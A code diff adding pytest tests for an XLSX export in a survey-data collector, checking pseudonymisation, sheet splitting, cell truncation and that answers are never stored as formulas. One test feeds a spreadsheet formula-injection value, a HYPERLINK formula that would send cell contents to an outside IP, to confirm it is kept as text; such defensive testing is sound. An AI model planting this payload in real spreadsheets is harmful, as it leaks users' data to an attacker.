@@ -6,8 +6,10 @@ import csv
 import io
 import json
 import zipfile
+from functools import partial
 from typing import Any
 
+import openpyxl
 import pytest
 from sqlalchemy import Engine, select, update
 from sqlalchemy.orm import Session, sessionmaker
@@ -17,6 +19,7 @@ from collector.audit import CLI, Actor
 from collector.dataset import Viewer
 from collector.db import session_factory, transaction
 from collector.errors import Forbidden, InvalidInput
+from collector.export_xlsx import write_xlsx
 from collector.models import AuditEntry, Form, FormVersion, SubmissionPart
 from tests.collector.test_vault import profile
 from tests.support.pipeline import process_all, publish, submit
@@ -178,3 +181,103 @@ def test_cli_actor_may_export(
     data, summary = run(sessions, kek, export.write_jsonl, actor=CLI)
     assert summary["exported"] == 3
     assert data
+
+
+def read_xlsx(data: bytes) -> dict[str, list[list[Any]]]:
+    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
+    try:
+        return {sheet.title: [list(r) for r in sheet.iter_rows(values_only=True)] for sheet in book}
+    finally:
+        book.close()
+
+
+def xlsx_text(data: bytes) -> bytes:
+    """Every part of a workbook, decompressed (what a search of its content must cover)."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return b"".join(archive.read(name) for name in archive.namelist())
+
+
+def as_csv(cell: Any) -> str:
+    return "" if cell is None else str(cell)
+
+
+def test_xlsx_holds_the_csv_zips_tables_pseudonymised(
+    sessions: sessionmaker[Session], kek: bytes, loaded: FormVersion
+) -> None:
+    zipped, _ = run(sessions, kek, partial(export.write_csv_zip, attachments=False))
+    data, summary = run(sessions, kek, write_xlsx)
+    sheets = read_xlsx(data)
+    assert list(sheets) == ["profile", "household", "summary"]
+    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
+        for sheet, name in (("profile", "profile.csv"), ("household", "profile-household.csv")):
+            rows = list(csv.reader(io.StringIO(archive.read(name).decode())))
+            assert [[as_csv(c) for c in row] for row in sheets[sheet]] == rows
+    header = sheets["profile"][0]
+    sizes = [row[header.index("group_size")] for row in sheets["profile"][1:]]
+    assert sizes
+    assert all(isinstance(size, int) for size in sizes)  # numbers, not text
+    at = sheets["household"][0].index("household-member_age")
+    ages = [row[at] for row in sheets["household"][1:]]
+    assert all(isinstance(age, str) and "-" in age for age in ages)  # a band stays text
+    content = xlsx_text(data)
+    for name, phone, passport, members in PEOPLE:
+        for secret in (name, phone, passport, *members, f"story of {name}"):
+            assert secret.encode() not in content
+    info = dict((row[0], row[1]) for row in sheets["summary"])
+    assert (info["exported"], info["processed"]) == (3, 3) == (summary["exported"], 3)
+    assert json.loads(info["withheld_columns"]) == ["narrative", "document_photo"]
+    with sessions() as session:
+        started = session.scalars(
+            select(AuditEntry).where(AuditEntry.action == "export.start")
+        ).all()
+    assert json.loads(started[-1].details)["format"] == "xlsx"
+
+
+TEXTS = """
+| survey   |
+|          | type    | name   | label  |
+|          | text    | remark | Remark |
+|          | integer | count  | Count  |
+|          | decimal | weight | Weight |
+| settings |
+|          | form_id | version |
+|          | texts   | 1       |
+"""
+
+
+def test_xlsx_cells_are_text_never_formulas_and_long_tables_go_on(
+    sessions: sessionmaker[Session], kek: bytes
+) -> None:
+    formula = '=HYPERLINK("http://198.51.100.7/x?"&A2,"open")'
+    long = "y" * 40_000
+    answers = [(formula, "12", "3.50"), (long, "007", "1e3"), ("plain", "-4", "0.25")]
+    with transaction(sessions) as session:
+        version = publish(session, kek, TEXTS)
+    with sessions() as session:
+        for remark, count, weight in answers:
+            values = f"<remark>{remark}</remark><count>{count}</count><weight>{weight}</weight>"
+            submit(session, version, values.replace("&", "&amp;").replace('"', "&quot;"))
+        session.commit()
+    process_all(sessions, kek)
+    data, summary = run(sessions, kek, partial(write_xlsx, rows_per_sheet=3))
+    assert summary["xlsx_cells_truncated"] == 1
+    sheets = read_xlsx(data)
+    # Two rows under the header per sheet: the third submission goes on in "texts (2)".
+    assert list(sheets) == ["texts", "texts (2)", "summary"]
+    assert sheets["texts"][0] == sheets["texts (2)"][0]
+    header = sheets["texts"][0]
+    rows = sheets["texts"][1:] + sheets["texts (2)"][1:]
+    got = {
+        r[header.index("remark")][:10]: (r[header.index("count")], r[header.index("weight")])
+        for r in rows
+    }
+    # Oldest first: an integer with a leading zero and an exponent stay text.
+    assert got == {formula[:10]: (12, 3.5), "y" * 10: ("007", "1e3"), "plain": (-4, 0.25)}
+    remarks = [r[header.index("remark")] for r in rows]
+    assert formula in remarks
+    assert "y" * 32_767 in remarks
+    book = openpyxl.load_workbook(io.BytesIO(data))  # Not read-only: it tells cell types.
+    cells = [c for row in book["texts"].iter_rows() for c in row if c.value == formula]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"
+    assert b"<f>" not in xlsx_text(data)  # No formula anywhere in the workbook.
